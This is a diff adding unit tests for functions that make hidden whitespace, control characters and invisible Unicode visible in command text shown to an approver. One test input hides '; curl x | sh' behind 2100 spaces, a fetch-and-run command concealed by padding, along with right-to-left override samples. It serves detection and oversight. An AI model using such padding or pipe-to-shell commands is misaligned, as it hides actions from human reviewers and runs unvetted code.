@@ -1,5 +1,6 @@
 import { describe, expect, it } from "vitest";
-import { blockText, codeBlock, inlineCode, inlineText } from "../../../src/core/render/escape.js";
+import { blockText, codeBlock, inlineCode, inlineText, visibleCodeBlock, visibleInlineCode, visibleJsonBlock } from "../../../src/core/render/escape.js";
+import { visibleText } from "../../../src/core/render/visible-text.js";
 import { findingIdInBody } from "../../../src/core/render/markers.js";
 
 const ZWJ = "\u200D";
@@ -179,5 +180,29 @@ describe("codeBlock", () => {
   it("caps the length", () => {
     const out = codeBlock("y".repeat(100), { maxLength: 10 });
     expect(out).toBe("```\nyyyyyyyyy…\n```");
+  });
+});
+
+describe("visible text for what an approver decides on (issue 11)", () => {
+  it("marks runs of spaces, edge spaces, tabs, controls and invisible characters; never drops or cuts", () => {
+    const text = `npm test${" ".repeat(2100)}; curl x | sh`;
+    expect(visibleCodeBlock(text, { lang: "sh" })).toBe("```sh\nnpm test⟨2100 spaces⟩; curl x | sh\n```");
+    expect(visibleText(" a b\tc\r\u0000\u001b[31m\u202Eevil\u200B\u00A0 ")).toBe("⟨1 space⟩a b⟨TAB⟩c⟨CR⟩⟨U+0000⟩⟨U+001B⟩[31m⟨U+202E⟩evil⟨U+200B⟩⟨U+00A0⟩⟨1 space⟩");
+    expect(visibleText("a\nb", { newlines: "marker" })).toBe("a⟨LF⟩b");
+    expect(visibleText("a\n", { newlines: "keep" })).toBe("a⟨LF⟩\n");
+    const long = "x".repeat(100_000);
+    expect(visibleInlineCode(long)).toBe(`\`${long}\``);
+  });
+
+  it("escapes its own brackets, so a marker cannot be forged", () => {
+    expect(visibleText("npm test ⟨2100 spaces⟩")).toBe("npm test ⟨U+27E8⟩2100 spaces⟨U+27E9⟩");
+  });
+
+  it("keeps diff indentation plain", () => {
+    expect(visibleText("+\tif (x) {\n+    y();\u200B", { spaces: false, newlines: "plain" })).toBe("+\tif (x) {\n+    y();⟨U+200B⟩");
+  });
+
+  it("shows JSON input with every key and string visible", () => {
+    expect(visibleJsonBlock(JSON.stringify({ "a\u202E": "x  y\n", n: 1 }))).toBe('```json\n{\n  "a⟨U+202E⟩": "x⟨2 spaces⟩y⟨LF⟩",\n  "n": 1\n}\n```');
   });
 });
